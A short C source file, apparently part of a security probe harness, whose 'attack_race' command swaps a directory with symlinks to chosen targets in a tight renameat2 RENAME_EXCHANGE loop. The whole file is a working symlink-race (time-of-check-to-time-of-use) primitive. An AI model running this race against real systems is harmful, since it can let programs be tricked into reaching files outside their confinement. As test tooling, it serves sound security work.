/* Exchange a directory and symbolic links by renameat2(2) as fast as it goes: `race SECONDS DIRECTORY NAME TARGET...`.
 * DIRECTORY/NAME is now a directory, now a link to one of the targets. */
#include "probe.h"

#include <sys/stat.h>
#include <time.h>

int attack_race(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    time_t end = time(NULL) + atoi(argv[1]);
    int top = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    char link[32];
    long count = 0;
    if (top < 0 || (mkdirat(top, argv[3], 0777) < 0 && errno != EEXIST)) {
        tell("prepare", -1);
        return 1;
    }
    for (int i = 4; i < argc; i++) {
        snprintf(link, sizeof link, "swap-%d", i);
        unlinkat(top, link, 0);
        if (symlinkat(argv[i], top, link) < 0)
            tell("symlink", -1);
    }
    puts("racing now");
    fflush(stdout);
    while (time(NULL) < end)
        for (int i = 4; i < argc; i++) {
            snprintf(link, sizeof link, "swap-%d", i);
            for (int turn = 0; turn < 2 * 100; turn++)
                if (renameat2(top, argv[3], top, link, RENAME_EXCHANGE) == 0)
                    count++;
        }
    printf("swaps %ld\n", count);
    return 0;
}
